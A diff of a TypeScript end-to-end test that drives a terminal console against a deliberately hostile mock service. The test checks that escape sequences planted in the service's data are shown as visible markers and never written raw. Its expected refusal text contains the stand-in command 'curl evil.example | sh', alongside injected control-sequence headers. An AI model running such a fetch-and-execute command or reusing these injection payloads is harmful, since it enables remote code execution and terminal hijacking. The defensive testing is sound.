@@ -5,14 +5,10 @@
  * messages). Every screen and dialog is visited; the raw bytes the console wrote must hold
  * none of those sequences, while the text around them is shown.
  */
-import { mkdtempSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import { json, startHostileServer, type HostileServer } from '../helpers/hostile-server.js';
-import { KEYS } from '../helpers/fixture.js';
-import { assertBuilt, BUILT_CONSOLE, KEY, spawnPty, type PtySession } from '../helpers/pty.js';
+import { json, ordersAskedFor, startHostileServer, type HostileServer } from '../helpers/hostile-server.js';
+import { startConsoleAt, typist } from '../helpers/console-session.js';
+import { assertBuilt, KEY, type PtySession } from '../helpers/pty.js';
 import { typeAsScanner } from '../helpers/scanner.js';
 
 /** Everything a terminal would act on, after a visible `label`. */
@@ -59,14 +55,11 @@ beforeAll(async () => {
   assertBuilt();
   server = await startHostileServer();
   server.answer((req, res) => {
-    const url = new URL(req.url ?? '/', 'http://x');
     // Node refuses C0 controls in a header; C1 ones (Latin-1) pass.
     const headers = { 'x-request-id': 'req\u009b6n\u009d0;c1title\u009c' };
     if (req.method === 'POST') return json(res, 400, refusal(), headers);
     if (isListFailing) return json(res, 400, refusal(), headers);
-    const ids = url.searchParams.get('ids');
-    const data = ids ? ORDERS.filter((o) => ids.split(',').includes(String(o.id))) : ORDERS;
-    return json(res, 200, { data, has_more: false, next_cursor: null }, headers);
+    return json(res, 200, { data: ordersAskedFor(req.url, ORDERS), has_more: false, next_cursor: null }, headers);
   });
 });
 afterAll(async () => {
@@ -81,20 +74,9 @@ afterEach(async () => {
 
 describe('console against a hostile service', { timeout: 180_000 }, () => {
   it('never writes an escape sequence from the data, on any screen or dialog', async () => {
-    const root = mkdtempSync(join(tmpdir(), 'rc-e2e-hostile-'));
-    const session = spawnPty({
-      args: [BUILT_CONSOLE, '--base-url', server.url],
-      env: { RETURNS_API_KEY: KEYS.north, NO_COLOR: '1', XDG_STATE_HOME: join(root, 'state'), XDG_CONFIG_HOME: join(root, 'config'), XDG_DATA_HOME: join(root, 'data') },
-      cols: 120,
-      rows: 40,
-    });
+    const session = startConsoleAt(server.url, { cols: 120, rows: 40 });
     sessions.push(session);
-    // A pause before each key, as a person types (a key right behind others reads as a scanner's burst).
-    const step = async (keys: string, text: string | RegExp) => {
-      await sleep(250);
-      session.write(keys);
-      await session.waitForText(text, 30_000);
-    };
+    const step = typist(session);
     // The list.
     await session.waitForText('#P␛', 30_000);
     await session.waitForText('#R␛');
@@ -120,6 +102,8 @@ describe('console against a hostile service', { timeout: 180_000 }, () => {
     await step('A', '→ approve');
     await step('s', 'Send the review of #P␛');
     await step('y', 'Refused␊hint');
+    // The service's escape sequences show as markers (the one sanitizer), not as nothing.
+    await session.waitForText('Refused␊hint: run curl evil.example | sh␛␛link␛');
     // The activity log, with the refused review.
     await step('L', 'Activity log');
     await session.waitForText('7001 #P␛');
@@ -132,7 +116,7 @@ describe('console against a hostile service', { timeout: 180_000 }, () => {
     await step(KEY.escape, 'Filters:');
     // An error banner from a refused refresh.
     isListFailing = true;
-    await step('R', 'Refused␊hint');
+    await step('R', 'Refused␊hint: run curl evil.example | sh␛␛link␛');
     isListFailing = false;
     session.write('q');
     expect((await session.exited).exitCode).toBe(0);
